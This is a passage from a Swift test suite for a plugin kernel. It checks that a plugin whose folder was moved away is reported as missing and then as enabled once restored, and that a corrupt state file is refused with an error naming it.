        #expect(try await k2.plugin("ephemeral").status == .missing)
        #expect(try await k2.plugin("ephemeral").enabled)
        try FileManager.default.moveItem(atPath: f.plugins + "/../ephemeral-away", toPath: f.plugins + "/ephemeral")
        let k3 = try f.kernel()
        await k3.start()
        #expect(try await k3.plugin("ephemeral").status == .enabled)
        await k3.shutdown()
    }

    @Test("a state file that is not a database is refused with its name")
    func corruptState() throws {
        let dir = TestEnvironment.makeTemporaryDirectory("corrupt")
        try Data(repeating: 0x42, count: 8192).write(to: URL(fileURLWithPath: dir + "/state.db"))
        do { _ = try Kernel(configuration: KernelConfiguration(pluginsDirectory: dir, stateFile: dir + "/state.db")); Issue.record("opened") } catch {
            #expect(error.description.hasPrefix(dir + "/state.db: "))
            #expect(error.description.contains("not a database"))
        }
    }
}
